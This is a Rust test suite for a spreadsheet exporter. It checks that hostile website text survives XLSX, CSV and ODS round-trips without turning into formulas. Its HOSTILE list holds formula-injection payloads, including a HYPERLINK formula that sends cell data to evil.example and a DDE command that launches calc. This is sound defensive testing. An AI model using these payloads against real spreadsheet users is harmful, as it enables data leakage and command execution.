//! Tests: what websites write must come through a spreadsheet as it is, and never do anything there.

use crate::cell::{cell_text, unguarded};
use crate::column::Column;
use crate::grid::{Grid, read_grid};
use crate::left_out::LeftOut;
use crate::sheet::{About, Row, Sheet, SheetKind};
use bron_model::{Criterion, Language};
use bron_protocol::{Files, Protocol};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
    "=cmd|' /C calc'!A0",
    "+31 6 1234",
    "-2+3",
    "@SUM(1;2)",
    "'=1+1",
    "<script>alert(1)</script> & \"quotes\" 'n <b>",
    "een\ntwee\r\ndrie\tvier",
    "steur\u{0}\u{7}\u{1b}[31m \u{202e}omgekeerd\u{202c} \u{fffe}",
    "_x0041_ en _x000D_ staan er letterlijk",
    "  witruimte aan de einden  ",
    "1,5",
    "0012",
    "2024-03-01",
    "TRUE",
    "#REF!",
    "één €, 𝔷𝔬𝔯𝔤 en 照護",
    "een;twee,drie\"vier",
];

/// A sheet with a row for each title; the note is as hostile as the title.
fn sheet(titles: &[String]) -> Sheet {
    let protocol = Protocol::load(&Files::Embedded, "demo").expect("the program's own files are right");
    let criteria = [Criterion::I1, Criterion::E1b, Criterion::E2, Criterion::E3];
    let rows = titles.iter().enumerate().map(|(number, title)| {
        let criterion = criteria[number % criteria.len()];
        let cells = [
            (Column::Id, format!("p-{number}/-/{criterion}/0123456789ab-01234567")),
            (Column::Title, cell_text(title)),
            (Column::Criterion, criterion.to_string()),
            (Column::Quote, cell_text(&title.repeat(2))),
            (Column::Link, "https://a.nl/x?y=1&z=\"q\"".to_owned()),
            (Column::Note, cell_text(title)),
        ];
        Row { cells: BTreeMap::from(cells), criterion }
    });
    Sheet {
        kind: SheetKind::Reviewer,
        language: Language::Nl,
        rows: rows.collect(),
        criteria: protocol.criteria,
        about: About {
            run: "demo".to_owned(),
            title: "demo: oordelen van AB".to_owned(),
            harvest: "2026-11-01".to_owned(),
        },
        left_out: LeftOut::default(),
    }
}

fn titles() -> Vec<String> {
    let long = ["lang ".repeat(9_000), "𝔷".repeat(20_000)];
    HOSTILE.iter().map(|title| (*title).to_owned()).chain(long).collect()
}

fn read(file: &Path) -> Grid {
    let is_header = |cells: &[String]| cells.iter().any(|cell| Column::of_header(cell) == Some(Column::Id));
    read_grid(file, &is_header).expect("it can be read").expect("it has a header")
}

/// Every cell of the sheet as it stands in the file; a CSV of bron's own has apostrophes before what looks like a formula, and of an
/// ODS calamine (0.38) leaves tabs out.
fn check(sheet: &Sheet, file: &Path, is_guarded: bool) {
    let is_ods = file.extension().is_some_and(|ending| ending == "ods");
    let grid = read(file);
    let columns: Vec<Column> =
        grid.header.iter().map(|name| Column::of_header(name).expect("all are ours")).collect();
    assert_eq!(columns, Column::OF_REVIEWER, "{}", file.display());
    let rows: Vec<Vec<String>> = grid.rows.into_iter().map(|(_, row)| row.expect("it can be read")).collect();
    assert_eq!(rows.len(), sheet.rows.len());
    for (row, cells) in sheet.rows.iter().zip(rows) {
        for (at, column) in Column::OF_REVIEWER.into_iter().enumerate() {
            let found = cells.get(at).map_or("", String::as_str);
            let found = if is_guarded { unguarded(found) } else { found };
            let expected = row.cell(column);
            let expected = if is_ods { expected.replace('\t', "") } else { expected.to_owned() };
            assert_eq!(found, expected, "{column:?} in {}", file.display());
        }
    }
}

fn written(sheet: &Sheet, folder: &Path) -> (PathBuf, PathBuf) {
    let (workbook, csv) = (folder.join("blad.xlsx"), folder.join("blad.csv"));
    std::fs::write(&workbook, sheet.workbook().expect("it can be made")).unwrap();
    std::fs::write(&csv, sheet.csv()).unwrap();
    (workbook, csv)
}

#[test]
fn hostile_titles_come_back_from_a_workbook_and_a_csv() {
    let folder = tempfile::tempdir().unwrap();
    let sheet = sheet(&titles());
    let (workbook, csv) = written(&sheet, folder.path());
    check(&sheet, &workbook, false);
    check(&sheet, &csv, true);
    let text = std::fs::read_to_string(csv).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell}");
        }
    }
}

#[test]
fn no_cell_of_a_workbook_is_a_formula_and_the_same_sheet_gives_the_same_bytes() {
    let sheet = sheet(&titles());
    let bytes = sheet.workbook().unwrap();
    assert_eq!(sheet.workbook().unwrap(), bytes);
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).expect("it is a workbook");
    let names = calamine::Reader::sheet_names(&workbook);
    assert_eq!(names, ["Oordelen", "Criteria"]);
    for name in names {
        let formulas = calamine::Reader::worksheet_formula(&mut workbook, &name).unwrap();
        assert_eq!(formulas.used_cells().collect::<Vec<_>>(), Vec::new(), "{name}");
    }
}

#[test]
fn the_reasons_of_a_drop_down_are_those_of_its_criterion() {
    let sheet = sheet(&titles());
    let bytes = sheet.workbook().unwrap();
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let told = calamine::Reader::worksheet_range(&mut workbook, "Criteria").unwrap();
    let reasons: Vec<(String, String)> = told
        .rows()
        .filter(|row| row.len() > 3 && !row[3].to_string().is_empty() && row[3] != "code")
        .map(|row| (row[0].to_string(), row[3].to_string()))
        .collect();
    let mut expected = Vec::new();
    for criterion in ["I1", "E1b", "E2", "E3"] {
        let criterion = Criterion::parse(criterion).unwrap();
        let known = crate::sheet::reasons_of(&sheet.criteria, criterion);
        expected.extend(known.map(|reason| (criterion.to_string(), reason.code.clone())));
    }
    assert!(expected.len() > 10, "{expected:?}");
    assert_eq!(reasons, expected);
}

#[test]
fn the_second_tab_says_what_is_not_in_the_sheet() {
    let left_out = LeftOut { judged: 3, assigned: 12, ..LeftOut::default() };
    let sheet = Sheet { left_out, ..sheet(&titles()) };
    let bytes = sheet.workbook().unwrap();
    let mut workbook: calamine::Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let told = calamine::Reader::worksheet_range(&mut workbook, "Criteria").unwrap();
    let expected = "Niet erin: 3 al beoordeeld, 12 aan anderen toegewezen.";
    assert!(told.rows().flatten().any(|cell| cell == expected), "{told:?}");
}

#[allow(clippy::print_stderr, reason = "what is skipped is said")]
#[test]
fn libreoffice_opens_the_workbook_and_saves_what_stands_in_it() {
    if Command::new("soffice").arg("--version").output().is_err() {
        eprintln!("skipped: soffice is not installed (tests/install office)");
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let sheet = sheet(&titles());
    let (workbook, _) = written(&sheet, folder.path());
    // The filter's options: semicolon, quotation mark, UTF-8, all as shown, and no formulas.
    for (format, ending) in [
        ("xlsx:Calc MS Excel 2007 XML", "xlsx"),
        ("ods", "ods"),
        ("csv:Text - txt - csv (StarCalc):59,34,76", "csv"),
    ] {
        let out = folder.path().join(ending);
        let profile = format!("-env:UserInstallation=file://{}/profile", folder.path().display());
        let done = Command::new("soffice")
            .args([&profile, "--headless", "--convert-to", format, "--outdir"])
            .args([&out, &workbook])
            .output()
            .unwrap();
        let saved = out.join("blad").with_extension(ending);
        assert!(
            saved.is_file(),
            "{}{}",
            String::from_utf8_lossy(&done.stdout),
            String::from_utf8_lossy(&done.stderr)
        );
        check(&sheet, &saved, false);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]
    #[test]
    fn any_titles_come_back(titles in prop::collection::vec("\\PC{0,30}|[\u{0}-\u{2f}=+@_x0-9]{0,30}|.{0,30}", 1..8)) {
        let folder = tempfile::tempdir().unwrap();
        let sheet = sheet(&titles);
        let (workbook, csv) = written(&sheet, folder.path());
        check(&sheet, &workbook, false);
        check(&sheet, &csv, true);
    }
}
